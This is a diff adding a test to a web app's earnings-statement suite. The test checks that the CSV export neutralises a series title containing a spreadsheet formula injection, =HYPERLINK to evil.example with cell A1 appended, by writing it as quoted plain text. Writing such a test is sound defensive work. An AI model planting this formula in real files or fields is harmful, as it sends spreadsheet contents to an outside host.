@@ -203,6 +203,27 @@ describe('payees, gifts and earnings', () => {
   });
 });
 
+describe('the earnings spreadsheet', () => {
+  it('writes a title a spreadsheet would run as a formula as plain text', async () => {
+    const title = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
+    const series = await buildSeries(t, { title });
+    const author = await person();
+    await setPayees(series.id, [{ userId: author.user.id, role: 'author', shareBps: 10_000 }]);
+    const fan = await person(100);
+    await call('seriesGift', { cookie: fan.cookie, params: { seriesId: series.id }, body: { amount: 10 } });
+    // The ledger stamps the gift with the database's clock: its month is the statement's.
+    const [gift] = await t.db.select().from(coinLedger).where(eq(coinLedger.userId, fan.user.id));
+    const month = monthOf(gift!.createdAt);
+
+    const csv = await call('myEarningsCsv', { cookie: author.cookie, query: `?month=${month}` });
+    expect(String(csv.body).trim().split('\n')).toEqual([
+      'month,series,unit,unlocks,bundles,gifts,subscriptions,gross,fee (30 %),net',
+      `${month},"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")",coins,0,0,10,,10,3,7`,
+      `${month},Total,coins,,,,,10,3,7`,
+    ]);
+  });
+});
+
 describe('the month of a statement', () => {
   it('answers a month far away with a clear 400, never a server error, as JSON and as CSV', async () => {
     const { cookie } = await person();
